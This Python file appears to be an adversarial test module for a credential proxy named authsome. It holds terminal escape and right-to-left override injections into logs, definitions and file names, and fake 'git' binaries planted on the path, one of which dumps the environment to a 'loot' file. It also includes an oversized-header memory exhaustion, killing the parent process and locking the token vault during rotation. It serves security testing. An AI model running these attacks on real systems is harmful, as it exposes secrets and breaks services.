"""Ring 5: harm the user, or the run."""
import json, os, re, signal, sqlite3, sys, time, threading

from proxy import Refused, ask, managed

PARENT = os.getppid()
HOME = os.environ.get("AUTHSOME_HOME", "")
ESCAPE = "\x1b]0;mine\x07\x1b[2J\x1b[31m"
RIGHT_TO_LEFT = "\u202e"


def escape_in_the_log(facts):
    "A line of the log that clears the screen of whoever looks at it."
    line = {"time": "2026-01-01T00:00:00Z", "event": "failed", "reason": f"see {ESCAPE}{RIGHT_TO_LEFT} here"}
    with open(os.path.join(HOME, "audit.log"), "a") as log:
        log.write(json.dumps(line, ensure_ascii=False) + "\n")


escape_in_the_log_as_json = escape_in_the_log


def escape_in_a_definition(facts):
    place = os.path.join(HOME, "providers")
    os.makedirs(place, exist_ok=True)
    value = {"schema_version": 1, "name": "nice", "display_name": f"Nice {ESCAPE}{RIGHT_TO_LEFT}", "auth_type": "api_key",
             "api_url": "https://nice.test", "api_key": {"header_name": "authorization", "env_var": "NICE"}}
    json.dump(value, open(os.path.join(place, "nice.json"), "w"))


def escape_in_the_name_of_a_file(facts):
    place = os.path.join(HOME, "providers")
    os.makedirs(place, exist_ok=True)
    open(os.path.join(place, f"{RIGHT_TO_LEFT}{ESCAPE}.json"), "w").write("{}")


def plant(directory, name, script):
    os.makedirs(directory, exist_ok=True)
    path = os.path.join(directory, name)
    with open(path, "w") as program:
        program.write(f"#!/bin/sh\n{script}\n")
    os.chmod(path, 0o755)


def git_in_the_repository(facts):
    plant(".", "git", "touch planted")


git_below_the_repository = lambda facts: plant("tools", "git", "touch planted")


def git_that_looks_around(facts):
    plant("bin", "git", "env > loot")


def head_without_end(facts):
    peer = managed(facts["gitlab"])
    peer.send(f"GET /api/v4/user HTTP/1.1\r\nHost: {facts['gitlab']}\r\n")
    try:
        for number in range(1200):
            peer.send(f"X-{number}: " + "x" * 65000 + "\r\n")
    except OSError:
        pass
    peak = re.search(r"VmHWM:\s+(\d+) kB", open(f"/proc/{PARENT}/status").read())
    print("peak", peak[1], "kB")


def outlive_authsome(facts):
    with open("outliving", "w") as file:
        file.write(str(os.getpid()))
    os.kill(PARENT, signal.SIGKILL)
    while os.getppid() == PARENT:
        pass
    time.sleep(0.3)
    open("survived", "w").close()


def lock_the_vault(facts):
    "The vault cannot be written at the moment that the one good refresh token comes."
    asking = threading.Thread(target=lambda: ask(facts["gitlab"], "GET /api/v4/user"))
    asking.start()
    while not os.path.exists("rotated"):
        time.sleep(0.01)
    vault = sqlite3.connect(os.path.join(HOME, "vault.db"), isolation_level=None)
    vault.execute("BEGIN EXCLUSIVE")
    asking.join()
    time.sleep(1)  # the session tries for half a second
    vault.execute("ROLLBACK")


def spend_it_twice(facts):
    ask(facts["gitlab"], "GET /api/v4/user")
